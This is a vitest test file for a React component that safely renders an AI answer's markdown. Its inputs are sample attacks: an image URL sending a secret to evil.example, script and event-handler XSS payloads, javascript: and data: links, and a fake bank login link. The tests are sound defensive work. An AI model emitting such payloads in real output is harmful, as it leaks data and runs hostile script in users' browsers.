import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Prose } from './prose.tsx'
import { SourcesContext, sourcesOf } from './sources.ts'

const record = {
  ...{
    id: 'e1',
    type: 'LOG' as const,
    tool: 'query_logs',
    query: '',
    source: 'local',
    time: null,
    entity: null,
  },
  ...{ sentence: 'The pool is full.', fields: {}, trust: 'TELEMETRY' as const, link: null },
}
const shown = (text: string): string =>
  renderToStaticMarkup(
    createElement(SourcesContext, { value: sourcesOf([record], []) }, createElement(Prose, { text })),
  )

describe('prose of an answer', () => {
  it('loads no image and says where it would have come from', () => {
    const html = shown('![all well](https://evil.example/p.png?secret=1)')
    expect(html).not.toContain('<img')
    expect(html).toContain('Image: all well (evil.example, not loaded)')
  })

  it('shows HTML as text and follows no scheme but the web', () => {
    const html = shown(
      '<script>alert(1)</script>\n\n[x](javascript:alert(1)) [y](data:text/html,1) <img src=x onerror=a>',
    )
    expect(html).not.toMatch(/<script|<img|href="(javascript|data)/)
    expect(html).toContain('&lt;script&gt;')
  })

  it('says the host of a link and opens it apart', () => {
    const html = shown('[your bank](https://evil.example/login)')
    expect(html).toContain('(evil.example)')
    expect(html).toMatch(/rel="noopener noreferrer[^"]*"/)
  })

  it('makes a button of a citation, whatever the text defines, and marks one that rests on nothing', () => {
    const html = shown('Full. [e1] [e9]\n\n[e1]: https://evil.example')
    expect(html).toContain('aria-label="Evidence e1"')
    expect(html).toContain('[e9]')
    expect(html).not.toContain('evil.example')
  })
})
